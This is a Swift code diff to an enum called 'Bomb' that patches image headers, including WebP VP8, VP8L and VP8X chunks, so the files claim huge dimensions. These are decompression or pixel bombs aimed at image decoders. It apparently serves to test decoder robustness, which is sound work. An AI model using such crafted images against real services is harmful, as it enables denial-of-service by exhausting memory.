@@ -20,14 +20,13 @@ enum Bomb {
             return bytes.replacing(at: 6, with: [low, high, low, high])
                 .replacing(at: frame + 5, with: [low, high, low, high])
         case .webp:
-            guard (1...1 << 14).contains(side) else { return nil }
-            if let lossy = bytes.place(of: "VP8 ") {
-                let size = [UInt8(side & 255), UInt8(side >> 8 & 0x3F)]
-                return side < 1 << 14 ? bytes.replacing(at: lossy + 14, with: size + size) : nil
-            }
+            guard (1..<1 << 14).contains(side) else { return nil }
             let bits = (side - 1) | (side - 1) << 14
             let size = (0..<4).map { UInt8(truncatingIfNeeded: bits >> (8 * $0)) }
-            let bomb = bytes.place(of: "VP8L").map { bytes.replacing(at: $0 + 9, with: size) }
+            let pair = [low, high, low, high]
+            let bomb =
+                bytes.place(of: "VP8 ").map { bytes.replacing(at: $0 + 14, with: pair) }
+                ?? bytes.place(of: "VP8L").map { bytes.replacing(at: $0 + 9, with: size) }
             guard let canvas = bytes.place(of: "VP8X") else { return bomb }
             let one = [UInt8((side - 1) & 255), UInt8((side - 1) >> 8), 0]
             return bomb?.replacing(at: canvas + 12, with: one + one)
